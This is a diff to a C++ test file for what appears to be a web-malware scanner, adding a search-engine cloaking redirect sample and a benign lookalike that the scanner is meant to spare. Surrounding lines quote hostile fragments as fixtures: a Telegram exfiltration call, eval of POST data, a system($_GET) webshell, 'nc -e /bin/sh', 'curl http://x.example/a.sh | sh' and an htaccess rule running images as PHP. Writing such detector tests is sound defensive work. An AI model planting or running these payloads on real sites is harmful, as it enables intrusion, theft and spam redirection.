@@ -271,6 +271,9 @@ constexpr Sample kSamples[] = {
      "file_get_contents('https://api.telegram.org/bot'.$k.'/sendMessage?text='.$t);"},
     {"js_eval_char_codes", "eval(String.fromCharCode(1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22))"},
     {"js_spelled_script", "x=String.fromCharCode(118,97,114,32,115)"},
+    {"php_hidden_redirect_by_engine",
+     "<?php $r = $_SERVER['HTTP_REFERER'] ?? '';\nif (preg_match('~(google|bing|yahoo)\\.~', $r)) {\n"
+     "  header('Location: ' . base64_decode('aHR0cA=='), true, 302);\n}\n"},
     {"htaccess_pictures_run", "AddType application/x-httpd-php .jpg\n"},
     {"defaced_title", "<html><head><title>Hacked By X</title>"},
     {"python_reverse_shell",
@@ -331,6 +334,8 @@ TEST(OwnRules, spare_those_who_only_talk_about_malware) {
       "Signatures from our scanner: <?php eval(base64_decode($_POST[\"x\"])); ?> and nc -e /bin/sh on purpose.\n",
       "INSERT INTO `wp_posts` VALUES (1,'look for <?php system($_GET[\"c\"]); ?> in uploads, curl "
       "http://x.example/a.sh | sh');",
+      "<?php\n// counts who comes from where\nif (preg_match('/(google|bing|yahoo)/', $_SERVER['HTTP_REFERER'] ?? "
+      "'')) {\n  header('Location: /welcome/');\n}\n$token = base64_decode($row['token']);\n",
       "<?php\n$expr = $argv[1];\necho eval('return ' . $expr . ';'), PHP_EOL;\n",
       "\xd0\xcf\x11\xe0 \x01\x08"
       "Attribut\x01"
